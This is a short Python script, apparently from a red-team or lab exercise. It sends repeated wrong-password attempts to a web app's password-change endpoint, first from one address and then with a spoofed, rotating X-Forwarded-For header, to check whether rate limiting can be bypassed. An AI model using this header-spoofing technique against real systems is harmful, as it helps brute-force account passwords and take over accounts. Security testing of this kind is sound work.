from br import *
PW="Red-team-passphrase-9931"
s=login("learn1",PW)
out=[]
for i in range(8):
    r=s.post(B+"/account/password",data={"csrf":csrf(s),"currentPassword":"guess-%d-xxxxx"%i,"newPassword":"Another-passphrase-77"},allow_redirects=False)
    out.append(r.status_code)
print("same addr",out)
out=[]
for i in range(18):
    r=s.post(B+"/account/password",data={"csrf":csrf(s),"currentPassword":"guess-%d-xxxxx"%i,"newPassword":"Another-passphrase-77"},headers={"X-Forwarded-For":"10.2.0.%d"%i},allow_redirects=False)
    out.append(r.status_code)
print("rotating",out)
